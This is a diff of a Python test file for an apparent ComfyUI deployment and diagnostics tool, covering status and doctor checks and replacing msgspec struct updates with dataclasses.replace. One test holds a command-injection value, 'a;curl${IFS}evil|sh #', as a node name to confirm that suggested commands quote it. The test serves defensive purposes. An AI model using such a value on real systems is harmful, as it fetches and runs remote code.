@@ -4,22 +4,23 @@ from __future__ import annotations
 
 import dataclasses
 import sys
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 
 import msgspec
 import pytest
 
+from agent.schema.facts import Busy, Ended
+from agent.schema.live import ComfyUI, Device, Disk, GpuState, Live, Mps, Probe
+from agent.schema.survey import Installation, Survey
 from core.errors import ConnectError, HearthError, NoInstallationError
 from deploy.facts import Facts
-from deploy.survey import Installation, Survey
+from deploy.survey import only
 from ops import doctor, status, workstation
-from ops.checks import CHECKS, Case, Probe
+from ops.checks import CHECKS, Case
 from ops.doctor import Finding
 from ops.fleet import Answer
-from ops.gpu import Gpu
-from ops.mps import Mps
-from ops.status import ComfyUI, Disk, Live
 from tests.unit.test_gpu import PROCESS, sample
 from tests.unit.test_plan import inputs, made, settled, spark
 
@@ -32,9 +33,7 @@ PROBE = Probe(synchronized=True, compiler="/usr/bin/cc", headers="/usr/include/P
 
 def seen(facts: Facts | None = None, live: Live = WELL, probe: Probe = PROBE) -> Case:
     facts = facts or settled()
-    live = msgspec.structs.replace(
-        live, comfyui=msgspec.structs.replace(live.comfyui, devices=(status.Device("GB10", "cuda"),))
-    )
+    live = replace(live, comfyui=replace(live.comfyui, devices=(Device("GB10", "cuda"),)))
     return Case(spark(), facts, live, probe, inputs(), made(facts), NOW)
 
 
@@ -49,29 +48,29 @@ def test_all_is_well() -> None:
 
 @pytest.mark.parametrize(("off", "what"), [(-300.0, "5 min 00 s behind"), (90.0, "1 min 30 s ahead of")])
 def test_a_clock_that_is_wrong(off: float, what: str) -> None:
-    case = seen(live=msgspec.structs.replace(WELL, time=NOW + off))
+    case = seen(live=replace(WELL, time=NOW + off))
     assert found(case) == {"clock": f"its clock is {what} this machine's"}
 
 
 def test_torch_is_asked_when_comfyui_does_not_answer() -> None:
-    stopped = msgspec.structs.replace(settled(), service=msgspec.structs.replace(settled().service, active=False))
-    live = msgspec.structs.replace(WELL, comfyui=ComfyUI("closed"))
-    case = seen(stopped, live, msgspec.structs.replace(PROBE, torch={"fault": "CUDA driver initialization failed"}))
+    stopped = replace(settled(), service=replace(settled().service, active=False))
+    live = replace(WELL, comfyui=ComfyUI("closed"))
+    case = seen(stopped, live, replace(PROBE, torch={"fault": "CUDA driver initialization failed"}))
     assert found(case)["cuda"] == "torch cannot use CUDA: CUDA driver initialization failed"
 
 
 def test_a_gpu_of_another_kind_than_the_kernels_are_for() -> None:
-    other = msgspec.structs.replace(settled().gpus[0], capability="8.9", unified=False)
-    case = seen(msgspec.structs.replace(settled(), gpus=(other,)))
+    other = replace(settled().gpus[0], capability="8.9", unified=False)
+    case = seen(replace(settled(), gpus=(other,)))
     assert "was built for 12.1, but the GPU is 8.9" in found(case)["kernels"]
 
 
 @pytest.mark.parametrize(
     ("live", "what"),
     [
-        (msgspec.structs.replace(WELL, uptime=5, comfyui=ComfyUI("closed")), "ComfyUI has been starting for 5 s"),
-        (msgspec.structs.replace(WELL, comfyui=ComfyUI("closed")), "ComfyUI accepts no connections"),
-        (msgspec.structs.replace(WELL, comfyui=ComfyUI("silent", "timed out")), "does not answer: timed out"),
+        (replace(WELL, uptime=5, comfyui=ComfyUI("closed")), "ComfyUI has been starting for 5 s"),
+        (replace(WELL, comfyui=ComfyUI("closed")), "ComfyUI accepts no connections"),
+        (replace(WELL, comfyui=ComfyUI("silent", "timed out")), "does not answer: timed out"),
     ],
 )
 def test_what_status_says_of_a_comfyui_that_is_not_there(live: Live, what: str) -> None:
@@ -82,17 +81,17 @@ def test_what_status_says_of_a_comfyui_that_is_not_there(live: Live, what: str) 
 
 def test_a_gpu_that_is_shared_on_purpose_is_none_to_warn_of() -> None:
     gpu = msgspec.convert(
-        {**sample("h200")["gpus"][0], "processes": [{**PROCESS, "bytes": None, "kind": "compute"}]}, Gpu
+        {**sample("h200")["gpus"][0], "processes": [{**PROCESS, "bytes": None, "kind": "compute"}]}, GpuState
     )
-    case = seen(live=msgspec.structs.replace(WELL, gpus=(gpu,)))
+    case = seen(live=replace(WELL, gpus=(gpu,)))
     assert found(case)["gpu-shared"].startswith("other processes use GPU 0: python3.12 main.py (pid 4242")
     shared = dataclasses.replace(case, target=spark(modes=("shared-gpu",)))
-    through_mps = dataclasses.replace(case, probe=msgspec.structs.replace(PROBE, mps=Mps(True, state="active")))
+    through_mps = dataclasses.replace(case, probe=replace(PROBE, mps=Mps(True, state="active")))
     assert "gpu-shared" not in found(shared) | found(through_mps)
 
 
 def test_drift_is_what_a_deploy_would_change() -> None:
-    altered = msgspec.structs.replace(settled(), altered=(settled().current,))
+    altered = replace(settled(), altered=(settled().current,))
     judged = status.judge(spark(), altered, WELL, made(altered))
     assert judged.drift
     assert judged.drift == tuple(step.title for step in made(altered).steps)
@@ -100,25 +99,25 @@ def test_drift_is_what_a_deploy_would_change() -> None:
 
 
 def test_a_failed_last_run_and_one_under_way() -> None:
-    last = {"action": "deploy", "at": "now", "result": "reverted", "error": "no picture"}
-    busy = {"action": "deploy", "who": "anna", "alive": True, "run": "1", "since": "now"}
-    facts = msgspec.structs.replace(settled(), last=last, busy=busy)
+    last = Ended(action="deploy", at="now", result="reverted", error="no picture")
+    busy = Busy(action="deploy", who="anna", alive=True, run="1", since="now")
+    facts = replace(settled(), last=last, busy=busy)
     told = [problem.what for problem in status.judge(spark(), facts, WELL, made(facts)).problems]
     assert told == ["the last deploy (now) reverted: no picture", "the host is being changed: deploy by anna since now"]
 
 
 def test_the_tables_of_status_are_100_columns_wide_at_most() -> None:
     widest = "7" * 400
-    gpu = msgspec.convert({**sample("h200")["gpus"][0], "name": "NVIDIA RTX PRO 6000 Blackwell"}, Gpu)
-    facts = msgspec.structs.replace(
+    gpu = msgspec.convert({**sample("h200")["gpus"][0], "name": "NVIDIA RTX PRO 6000 Blackwell"}, GpuState)
+    facts = replace(
         settled(),
         deployed={"at": "2026-01-01T00:00:00Z", "result": "reverted"},
-        service=msgspec.structs.replace(settled().service, restarts=12345),
+        service=replace(settled().service, restarts=12345),
     )
-    live = msgspec.structs.replace(
+    live = replace(
         WELL,
         time=datetime(2026, 4, 11, tzinfo=UTC).timestamp(),
-        comfyui=msgspec.structs.replace(SERVES, version="0.100.10", pending=12345),
+        comfyui=replace(SERVES, version="0.100.10", pending=12345),
         disks={"/opt/comfyui": Disk(9 * 10**12, 10**13)},
         gpus=(gpu, gpu),
     )
@@ -188,7 +187,7 @@ def test_every_problem_is_followed_by_its_fix() -> None:
 
 def test_memory_in_pieces_names_the_mode_that_may_help() -> None:
     line = "torch.OutOfMemoryError: CUDA out of memory. 5.10 GiB is reserved by PyTorch but unallocated."
-    (told,) = doctor.judge(seen(probe=msgspec.structs.replace(PROBE, log=((NOW, line),))))
+    (told,) = doctor.judge(seen(probe=replace(PROBE, log=((NOW, line),))))
     assert told.check == "out-of-memory"
     assert 'modes = ["low-memory"]' in told.remedy
     assert '5.10 GiB is fragmented: modes = ["native-allocator"]' in told.remedy
@@ -196,12 +195,12 @@ def test_memory_in_pieces_names_the_mode_that_may_help() -> None:
 
 def test_what_others_name_is_quoted_in_commands() -> None:
     name = "a;curl${IFS}evil|sh #"
-    case = seen(msgspec.structs.replace(settled(), failed_nodes={name: "x"}))
+    case = seen(replace(settled(), failed_nodes={name: "x"}))
     (node,) = [each for each in doctor.judge(case) if each.check == "nodes"]
     assert node.remedy.startswith(f"inv nodes.update --name '{name}'; ")
     found = [
         Installation(path, "", "", "", None, "", "", "", {}, "", (), (), (), (), False) for path in ("/a; b", "/c")
     ]
     with pytest.raises(NoInstallationError) as raised:
-        Survey((), tuple(found)).only("spark")
+        only(Survey((), tuple(found)), "spark")
     assert raised.value.hint == "choose one: --path '/a; b'"
